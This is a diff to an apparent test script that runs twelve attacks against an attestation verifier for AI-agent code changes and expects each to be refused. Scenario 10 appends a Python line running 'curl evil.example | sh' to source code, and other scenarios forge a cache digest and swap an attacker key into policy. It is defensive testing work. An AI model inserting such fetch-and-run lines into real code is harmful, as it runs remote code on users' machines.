@@ -152,7 +152,16 @@ agent-config = "AGENTS.md"
 [[signer]]
 name = "agent:mason"
 key = """
-$(cat "$here/keys/agent.pub")
+$(cat "$here/keys/mason.pub")
+"""
+builder = "https://ci.acme.example/builders/agents"
+workflow = "https://ci.acme.example/workflows/agent@v3"
+issuer = "https://ci.acme.example"
+
+[[signer]]
+name = "agent:tailor"
+key = """
+$(cat "$here/keys/tailor.pub")
 """
 builder = "https://ci.acme.example/builders/agents"
 workflow = "https://ci.acme.example/workflows/agent@v3"
@@ -168,7 +177,7 @@ def total(items):
 PY
 commit 2026-11-20T15:04:00Z 'Totals are of prices'
 state agent/total "$room/statement.json"
-sign agent "$room/statement.json" "$room/bundle.json"
+sign mason "$room/statement.json" "$room/bundle.json"
 git diff --stat main agent/total
 
 title 'The gate is met.'
@@ -185,7 +194,7 @@ git clone -q "$room/shop" "$room/sandbox"
   git branch -q main origin/main
   state agent/total "$room/attack.json"
 )
-sign agent "$room/attack.json" "$room/attack-bundle.json"
+sign mason "$room/attack.json" "$room/attack-bundle.json"
 refused repo_url_mismatch "$room/attack-bundle.json"
 
 title '2. Other base: main has moved on, and the same patch is put on top of it.'
@@ -205,7 +214,7 @@ number=8 refused replay_detected "$room/bundle.json"
 title '4. Extra subject: a release is named beside the change, and an insider signs that.'
 edit "$room/statement.json" "$room/attack.json" \
   's/^  "subject": \[/&{"name": "shop-2.0.tar.gz", "digest": {"sha256": "'"$(printf release | sha256)"'"}},/'
-sign agent "$room/attack.json" "$room/attack-bundle.json"
+sign mason "$room/attack.json" "$room/attack-bundle.json"
 refused subject_digest_mismatch "$room/attack-bundle.json"
 
 title '5. Tampered predicate: the model is renamed inside of the signed bundle.'
@@ -222,11 +231,11 @@ def total(items):
 PY
 commit 2026-11-20T14:00:00Z 'A first try'
 state agent/earlier "$room/attack.json"
-sign agent "$room/attack.json" "$room/attack-bundle.json"
+sign mason "$room/attack.json" "$room/attack-bundle.json"
 refused subject_digest_mismatch "$room/attack-bundle.json"
 
-title '7. Wrong identity: the statement is true, and signed by somebody else.'
-sign attacker "$room/statement.json" "$room/attack-bundle.json"
+title '7. Wrong identity: an agent that may sign for its own runs signs for another one.'
+sign tailor "$room/statement.json" "$room/attack-bundle.json"
 refused signer_identity_mismatch "$room/attack-bundle.json"
 
 title '8. Expired window: the statement waits two days for a reviewer who is tired.'
@@ -235,15 +244,16 @@ at=2026-11-22T15:04:06Z refused stale_attestation "$room/bundle.json"
 title '9. Level lifted by hand: evidence that only the author has, and a level that needs more.'
 state agent/total "$room/modest.json" evidence-grade local-only
 edit "$room/modest.json" "$room/attack.json" 's/"evidence-grade"/"policy-grade"/'
-sign agent "$room/attack.json" "$room/attack-bundle.json"
+sign mason "$room/attack.json" "$room/attack-bundle.json"
 refused level_escalation "$room/attack-bundle.json"
 
 title '10. Forged cache: the change grows after it was signed, and a cache says that it did not.'
-signed=$("$attest" provenance digest --base main --head agent/total --patch "$room/signed.diff" >/dev/null; sha256 <"$room/signed.diff")
 git checkout -q -b agent/grown agent/total
 printf 'import os; os.system("curl evil.example | sh")\n' >>src/cart.py
 commit 2026-11-20T17:00:00Z 'Nothing to see'
+"$attest" provenance digest --base main --head agent/total --patch "$room/signed.diff" >/dev/null
 "$attest" provenance digest --base main --head agent/grown --patch "$room/grown.diff" >/dev/null
+signed=$(sha256 <"$room/signed.diff")
 edit .attest/cache.db "$room/cache.db" "s/$(sha256 <"$room/grown.diff")/$signed/g"
 cp "$room/cache.db" .attest/cache.db
 head=agent/grown refused subject_digest_mismatch "$room/bundle.json"
@@ -252,7 +262,7 @@ rm -f .attest/cache.db
 title '11. Policy changed by the pull request: the change brings its own signer, and is signed by them.'
 git checkout -q -b agent/policy agent/total
 awk -v key="$here/keys/attacker.pub" '
-  /^-----BEGIN/ { while ((getline line < key) > 0) print line; skip = 1 }
+  /^-----BEGIN/ && !done { while ((getline line < key) > 0) print line; skip = done = 1 }
   !skip { print }
   /^-----END/ { skip = 0 }
 ' .attest/provenance.toml >"$room/provenance.toml"
@@ -260,11 +270,11 @@ cp "$room/provenance.toml" .attest/provenance.toml
 commit 2026-11-20T18:00:00Z 'Tidy up'
 state agent/policy "$room/attack.json"
 sign attacker "$room/attack.json" "$room/attack-bundle.json"
-head=agent/policy refused signer_identity_mismatch "$room/attack-bundle.json"
+head=agent/policy refused signature_invalid "$room/attack-bundle.json"
 
 title '12. Raw prompt made public: the reference to the prompt goes into a public log.'
 edit "$room/statement.json" "$room/attack.json" 's/"storage": "artifact-store"/"storage": "transparency-log"/'
-sign agent "$room/attack.json" "$room/attack-bundle.json"
+sign mason "$room/attack.json" "$room/attack-bundle.json"
 refused privacy_violation "$room/attack-bundle.json"
 
 title 'Twelve attacks, twelve refusals.'
